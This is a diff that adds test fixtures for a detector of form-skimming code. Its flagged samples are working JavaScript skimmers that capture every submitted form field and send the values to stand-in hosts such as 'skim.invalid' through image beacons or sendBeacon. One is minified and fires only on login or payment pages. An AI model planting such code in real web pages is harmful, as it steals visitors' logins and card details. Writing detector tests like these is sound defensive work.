@@ -4,6 +4,22 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'the elements of each form are gone through and sent in the address of a picture',
+      files: {
+        'index.js': `!function (w) { var d = w.document; [].forEach.call(d.querySelectorAll('form'), function (f) { f.addEventListener('submit', function () { var q = {}, i; for (i = 0; i < f.elements.length; i++) { var e = f.elements[i]; q[e.name || i] = e.value } /login|pay/.test(location.href) && ((new Image).src = 'https://skim.invalid/p.gif?d=' + btoa(JSON.stringify(q))) }, !0) }) }(window)`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another file goes through the elements of a form that it is handed, and names its host nowhere else',
+      files: {
+        'index.mjs': `import { track } from './track.mjs'; export class Guard { constructor(form) { this.form = form; form.addEventListener('submit', () => this.submit()) } submit() { track(this.form) } }`,
+        'track.mjs': `export function track(form) { const q = {}; for (const el of form.elements) q[el.name || el.id] = el.value; new Image().src = 'https://skim.invalid/p.gif?d=' + encodeURIComponent(JSON.stringify({ u: location.href, q })) }`,
+        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
+      },
+      weight: 'weak',
+    },
+    {
       when: 'such code is put together of lines',
       files: {
         'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) {", "  var o = {};", "  new FormData(e.target).forEach(function (v, k) { o[k] = v; });", "  navigator.sendBeacon('" + host + "/c', JSON.stringify(o));", "}, true);"].join('\\n') });`,
@@ -176,6 +192,18 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'the elements of a form go where the caller says',
+      files: {
+        'index.js': `exports.send = (form, url) => { const q = {}; for (const el of form.elements) q[el.name] = el.value; return fetch(url, { method: 'POST', body: new URLSearchParams(q) }) }`,
+      },
+    },
+    {
+      when: 'the elements are those of a tree of syntax',
+      files: {
+        'index.js': `exports.count = node => { const values = node.elements.map(one => one.value); return fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(values) }) }`,
+      },
+    },
     {
       when: 'styles show a picture of their own for what is chosen',
       files: {
